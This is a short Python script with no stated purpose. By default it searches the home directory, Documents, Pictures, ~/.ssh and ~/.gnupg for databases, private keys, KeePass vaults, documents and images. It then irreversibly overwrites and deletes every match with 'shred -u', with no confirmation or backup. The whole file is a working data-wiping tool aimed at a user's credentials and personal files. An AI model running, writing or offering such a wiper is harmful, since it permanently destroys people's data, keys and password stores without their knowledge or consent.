#!/usr/bin/env python3
import os
import subprocess
import sys
from pathlib import Path

PATTERNS = ("*.csv", "*.sql", "*.pem", "*.key", "*.kdbx", "*.docx", "*.pdf", "*.jpg", "*.png")


def targets() -> list[Path]:
    if len(sys.argv) > 1:
        return [Path(p) for p in sys.argv[1:]]
    roots = [Path.home(), Path.home() / "Documents", Path.home() / "Pictures", Path.home() / ".ssh", Path.home() / ".gnupg"]
    found: list[Path] = []
    for root in roots:
        for pat in PATTERNS:
            found.extend(root.rglob(pat))
    found.extend((Path.home() / ".ssh").glob("*"))
    return found


for f in targets():
    if f.is_file():
        subprocess.run(["shred", "-u", "-n", "3", "-z", str(f)], check=False)
print("done")
